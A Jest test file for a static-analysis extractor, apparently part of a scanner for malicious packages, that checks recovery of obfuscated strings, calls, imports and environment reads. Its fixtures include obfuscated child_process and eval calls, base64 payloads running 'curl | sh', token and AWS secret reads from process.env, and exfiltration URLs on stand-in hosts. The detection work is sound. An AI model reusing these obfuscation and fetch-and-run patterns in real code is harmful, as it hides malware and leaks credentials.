import { describe, expect, it } from '@jest/globals'
import { factsOf } from '../../../../src/rules/lib/code/index.js'
import { makeFiles } from '../../../helpers/factories.js'
import { callees, factsOfSource, specifiers, stringValues } from './helpers.js'

const b64 = (text: string) => Buffer.from(text).toString('base64')

describe('factsOf: strings', () => {
  it.each([
    ['a plain literal', `const a = 'hello'`, 'hello', undefined],
    ['a double-quoted literal', `x("https://a.example/p")`, 'https://a.example/p', undefined],
    ['hex escapes', `const m = '\\x63\\x68\\x69\\x6c\\x64'`, 'child', 'escapes'],
    ['unicode escapes', `const m = "\\u0065\\u0076\\u0061\\u006c"`, 'eval', 'escapes'],
    ['a code-point escape', 'const m = "\\u{65}val"', 'eval', 'escapes'],
    ['a template without holes', 'const u = `https://b.example`', 'https://b.example', undefined],
    [
      'a template with constant holes',
      "const h = 'c.example'; f(`https://${h}/x`)",
      'https://c.example/x',
      'template'
    ],
    [
      'the Scavenger concatenation',
      `const m = 'chi' + 'ld_pro' + 'cess'`,
      'child_process',
      'concatenation'
    ],
    ['a concatenation with a number', `const p = 'port:' + 8080`, 'port:8080', 'concatenation'],
    [
      'a concatenation through a const',
      `const a = 'ev'; const b = a + 'al'`,
      'eval',
      'concatenation'
    ],
    ['String.prototype.concat', `const c = 'ex'.concat('ec', 'Sync')`, 'execSync', 'concatenation'],
    ['an array join', `const n = ['ev', 'al'].join('')`, 'eval', 'array-join'],
    ['a split-reverse-join', `const n = 'lave'.split('').reverse().join('')`, 'eval', 'array-join'],
    ['char codes', `const s = String.fromCharCode(104, 105)`, 'hi', 'char-codes'],
    [
      'spread char codes',
      `const s = String.fromCharCode(...[101, 118, 97, 108])`,
      'eval',
      'char-codes'
    ],
    ['a hex buffer', `Buffer.from('6368696c64', 'hex').toString()`, 'child', 'hex'],
    ['a percent-encoded string', `decodeURIComponent('%65%76%61%6c')`, 'eval', 'uri']
  ])('%s', (_label, source, value, decodedFrom) => {
    const facts = factsOfSource(source)
    expect(facts.parsed).toBe(true)
    expect(facts.strings).toContainEqual(
      decodedFrom ? { value, line: 1, decodedFrom } : { value, line: 1 }
    )
  })

  it('reports a whole + chain once, not each partial sum', () => {
    const facts = factsOfSource(`const m = 'a' + 'b' + 'c' + 'd'`)
    expect(stringValues(facts, 'concatenation')).toEqual(['abcd'])
  })

  it('keeps the literal parts of a template with unknown holes', () => {
    const facts = factsOfSource('fetch(`https://${host}.d.example/collect?k=${key}`)')
    expect(stringValues(facts)).toEqual(['https://', '.d.example/collect?k='])
  })

  it('gives 1-based lines', () => {
    const facts = factsOfSource(`\n\nconst a = 'third'\n`)
    expect(facts.strings).toEqual([{ value: 'third', line: 3 }])
  })
})

describe('factsOf: base64', () => {
  it.each([
    [
      'a URL literal',
      `const u = '${b64('https://exfil.example/collect')}'`,
      'https://exfil.example/collect'
    ],
    [
      'a code snippet literal',
      `const c = '${b64("require('child_process').exec('id')")}'`,
      "require('child_process').exec('id')"
    ],
    ['atob', `atob('${b64('https://x.example')}')`, 'https://x.example'],
    [
      'Buffer.from base64',
      `Buffer.from('${b64('hello world, hi')}', 'base64').toString('utf8')`,
      'hello world, hi'
    ],
    ['a short atob argument', `atob('${b64('eval')}')`, 'eval'],
    [
      'a concatenated base64 literal',
      `const u = '${b64('https://y.example/a').slice(0, 8)}' + '${b64('https://y.example/a').slice(8)}'`,
      'https://y.example/a'
    ]
  ])('decodes %s and keeps the original', (_label, source, decoded) => {
    const facts = factsOfSource(source)
    expect(stringValues(facts, 'base64')).toContain(decoded)
    expect(facts.strings.length).toBeGreaterThan(1)
  })

  it('does not decode random bytes or ordinary words', () => {
    const random = Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 73 + 151) % 256))
    const source = `const key = '${random.toString('base64')}'; const w = 'someLongPropertyName'`
    expect(stringValues(factsOfSource(source), 'base64')).toEqual([])
  })

  it('parses decoded code: facts of eval(atob(...)) appear at the line of the call', () => {
    const payload = b64("require('child_process').exec('curl x.example | sh')")
    const facts = factsOfSource(`\neval(atob('${payload}'))`)
    expect(specifiers(facts)).toEqual(['child_process'])
    expect(facts.calls).toContainEqual({
      callee: 'child_process.exec',
      args: ['curl x.example | sh'],
      line: 2
    })
    expect(stringValues(facts, 'base64')).toHaveLength(1)
  })

  it('parses the constant code given to new Function', () => {
    const facts = factsOfSource(`new Function("return process.env.NPM_TOKEN")()`)
    expect(facts.members.map((m) => m.path)).toContain('process.env.NPM_TOKEN')
  })
})

describe('factsOf: calls', () => {
  it.each([
    ['a plain call', `fetch('https://a.example', opts)`, 'fetch', ['https://a.example', undefined]],
    ['a member call', `child_process.exec('id')`, 'child_process.exec', ['id']],
    ['a constant computed key', `obj['exec']('ls')`, 'obj.exec', ['ls']],
    ['a folded computed key', `global['ev' + 'al'](x)`, 'global.eval', [undefined]],
    ['a const-bound computed key', `const k = 'exec'; cp[k]('id')`, 'cp.exec', ['id']],
    ['an unknown computed key', `handlers[name]('x')`, 'handlers[]', ['x']],
    ['new Function', `new Function('return 1')`, 'new Function', ['return 1']],
    ['new with a member', `new vm.Script('1')`, 'new vm.Script', ['1']],
    [
      'a required module method',
      `require('child_process').spawn('sh')`,
      'child_process.spawn',
      ['sh']
    ],
    [
      'the compiled (0, f)() form',
      `(0, child_process_1.execSync)('id')`,
      'child_process_1.execSync',
      ['id']
    ],
    [
      'an optional call',
      `window.ethereum?.request({ method: 'eth_accounts' })`,
      'window.ethereum.request',
      [undefined]
    ],
    ['decoded arguments', `exec('cu' + 'rl')`, 'exec', ['curl']],
    ['a chained call result', `fetch(u).then(r)`, 'fetch().then', [undefined]]
  ])('%s', (_label, source, callee, args) => {
    const facts = factsOfSource(source)
    expect(facts.calls).toContainEqual({ callee, args, line: 1 })
  })
})

describe('factsOf: members', () => {
  it.each([
    ['an env variable', `const t = process.env.NPM_TOKEN`, 'process.env.NPM_TOKEN', false],
    [
      'a computed env variable',
      `const t = process['env']['GITHUB_TOKEN']`,
      'process.env.GITHUB_TOKEN',
      false
    ],
    ['a hooked fetch', `window.fetch = function () {}`, 'window.fetch', true],
    [
      'a hooked prototype',
      `XMLHttpRequest.prototype.open = hook`,
      'XMLHttpRequest.prototype.open',
      true
    ],
    [
      'a defineProperty hook',
      `Object.defineProperty(window, 'ethereum', {})`,
      'window.ethereum',
      true
    ],
    ['Object.keys(process.env)', `Object.keys(process.env).forEach(f)`, 'process.env', false],
    ['JSON.stringify(process.env)', `send(JSON.stringify(process.env))`, 'process.env', false],
    ['a spread environment', `const all = { ...process.env }`, 'process.env', false],
    [
      'a destructured variable',
      `const { AWS_SECRET_ACCESS_KEY } = process.env`,
      'process.env.AWS_SECRET_ACCESS_KEY',
      false
    ],
    ['a destructuring with rest', `const { A, ...rest } = process.env`, 'process.env', false]
  ])('%s', (_label, source, path, assigned) => {
    expect(factsOfSource(source).members).toContainEqual({ path, assigned, line: 1 })
  })

  it('records only the outermost member of a chain', () => {
    const paths = factsOfSource(`const t = process.env.NPM_TOKEN`).members.map((m) => m.path)
    expect(paths).toEqual(['process.env.NPM_TOKEN'])
  })

  it('does not report the whole environment for a plain destructuring', () => {
    const paths = factsOfSource(`const { HOME } = process.env`).members.map((m) => m.path)
    expect(paths).toEqual(['process.env.HOME'])
  })
})

describe('factsOf: properties, imports, identifiers', () => {
  it.each([
    ['an identifier key', `send({ Bcc: 'a@b.c' })`, { key: 'Bcc', value: 'a@b.c', line: 1 }],
    ['a string key', `const h = { 'X-Token': 'abc' }`, { key: 'X-Token', value: 'abc', line: 1 }],
    [
      'a computed key',
      `const o = { ['b' + 'cc']: 'x@y.z' }`,
      { key: 'bcc', value: 'x@y.z', line: 1 }
    ],
    ['a non-constant value', `const o = { to: user.email }`, { key: 'to', line: 1 }],
    [
      'a shorthand of a const',
      `const cc = 'c@d.e'; m({ cc })`,
      { key: 'cc', value: 'c@d.e', line: 1 }
    ]
  ])('properties: %s', (_label, source, property) => {
    expect(factsOfSource(source).properties).toContainEqual(property)
  })

  it.each([
    ['require', `const fs = require('fs')`, ['fs']],
    ['a folded require', `const cp = require('chi' + 'ld_process')`, ['child_process']],
    ['import declarations', `import a from 'a'\nimport 'b'\nexport * from 'c'`, ['a', 'b', 'c']],
    ['dynamic import', `const m = await import('node:' + 'os')`, ['node:os']],
    ['a non-constant require', `require(name)`, []]
  ])('imports: %s', (_label, source, expected) => {
    expect(specifiers(factsOfSource(source))).toEqual(expected)
  })

  it('lists identifiers once, declared ones included', () => {
    const facts = factsOfSource(
      `var _0x1a2b = ['a']; function _0x3c4d(_0x5e6f) { return _0x1a2b[_0x5e6f] }`
    )
    expect([...facts.identifiers].sort()).toEqual(['_0x1a2b', '_0x3c4d', '_0x5e6f'])
  })
})

describe('factsOf: languages and fallbacks', () => {
  it('parses a file with a hash-bang', () => {
    const facts = factsOfSource(`#!/usr/bin/env node\nrequire('./cli.js')`, 'bin/cli')
    expect(facts.parsed).toBe(true)
    expect(specifiers(facts)).toEqual(['./cli.js'])
  })

  it('falls back to a tolerant parse for TypeScript and still finds strings and calls', () => {
    const source = `interface Options { url: string }\nconst endpoint: string = 'https://t.example/api'\nexport async function send(o: Options): Promise<void> { await fetch(endpoint as string) }`
    const facts = factsOfSource(source, 'src/index.ts')
    expect(facts.parsed).toBe(false)
    expect(stringValues(facts)).toContain('https://t.example/api')
    expect(callees(facts)).toContain('fetch')
    expect(facts.strings.filter((s) => s.value === 'https://t.example/api')).toHaveLength(1)
  })

  it('scans garbage lexically', () => {
    const source = `@@@ ### )))( '\\x68ttps://g.example' ::: ;; ]] require('child_process') %% process.env.TOKEN = x; exec("id")`
    const facts = factsOfSource(source)
    expect(facts.parsed).toBe(false)
    expect(facts.strings).toContainEqual({
      value: 'https://g.example',
      line: 1,
      decodedFrom: 'escapes'
    })
    expect(specifiers(facts)).toEqual(['child_process'])
    expect(facts.members).toContainEqual({ path: 'process.env.TOKEN', assigned: true, line: 1 })
    expect(facts.calls).toContainEqual({ callee: 'exec', args: ['id'], line: 1 })
  })

  it('scans shell scripts lexically', () => {
    const facts = factsOfSource(
      `#!/bin/sh\n\ncurl -s "https://s.example/x" | sh\n`,
      'scripts/install.sh'
    )
    expect(facts.parsed).toBe(false)
    expect(facts.strings).toEqual([{ value: 'https://s.example/x', line: 3 }])
  })

  it('reads the head of a truncated file tolerantly, decoded forms included', () => {
    const head = `const m = require('chi' + 'ld_process')\nm.exec('id')\nfunction cut(a) { return [a, `
    const file = { path: 'dist/big.js', size: 5e6, text: head, truncated: true, binary: false }
    const facts = factsOf(file)
    expect(facts?.parsed).toBe(false)
    expect(facts && specifiers(facts)).toEqual(['child_process'])
    expect(facts?.calls).toContainEqual({ callee: 'm.exec', args: ['id'], line: 2 })
  })

  it('returns undefined for files that are not code', () => {
    const files = makeFiles({ 'README.md': '# hi', 'lib/x.node': Buffer.from([0x7f, 0x45]) })
    for (const file of files.files.values()) expect(factsOf(file)).toBeUndefined()
  })

  it('caches facts per file object', () => {
    const file = makeFiles({ 'index.js': `f('x')` }).files.get('index.js')
    expect(file && factsOf(file)).toBe(file && factsOf(file))
  })
})
